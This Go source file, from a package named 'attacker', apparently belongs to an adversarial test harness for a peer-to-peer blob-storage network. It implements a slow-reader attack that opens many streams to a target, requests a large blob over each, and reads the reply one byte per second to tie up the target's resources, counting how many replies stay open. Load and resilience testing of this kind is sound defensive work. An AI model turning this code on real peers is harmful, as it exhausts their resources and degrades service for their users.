package attacker

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net/http"
	"time"

	"github.com/ipfs/go-cid"
	"github.com/multiformats/go-multihash"
)

// SlowReaders asks for a blob n times at once, over streams, and takes a byte a second of each
// answer. Now counts answers that are under way. The blob has to be longer than what is sent
// before anybody reads, some 256 KiB.
func SlowReaders(t Target, blob cid.Cid, n int) Attack {
	return func(ctx context.Context, p *Peer, tally *Tally) {
		again(ctx, n, tally, func(ctx context.Context) error { return p.readSlowly(ctx, t, blob, tally) })
	}
}

func (p *Peer) readSlowly(ctx context.Context, t Target, blob cid.Cid, tally *Tally) error {
	s, err := p.stream(ctx, t, blobsProtocol)
	if err != nil {
		return err
	}
	defer func() { _ = s.Reset() }()
	defer context.AfterFunc(ctx, func() { _ = s.Reset() })()
	if _, err := fmt.Fprintf(s, "GET /v1/blobs/%s HTTP/1.1\r\nHost: member\r\n\r\n", blob); err != nil {
		return err
	}
	_ = s.SetReadDeadline(time.Now().Add(patience))
	resp, err := http.ReadResponse(bufio.NewReaderSize(s, 1<<10), nil)
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("answers %s", resp.Status)
	}
	_ = s.SetReadDeadline(time.Time{})
	defer tally.add()()
	tally.did.Add(1)
	for b := make([]byte, 1); err == nil; rest(ctx, time.Second) {
		_, err = io.ReadFull(resp.Body, b)
	}
	return err
}

// LeafCID is the CID of a blob of one leaf, up to 1 MiB, with this sha256 sum.
func LeafCID(sum [32]byte) cid.Cid {
	hash, err := multihash.Encode(sum[:], multihash.SHA2_256)
	if err != nil {
		return cid.Undef // it has the right length
	}
	return cid.NewCidV1(cid.Raw, hash)
}
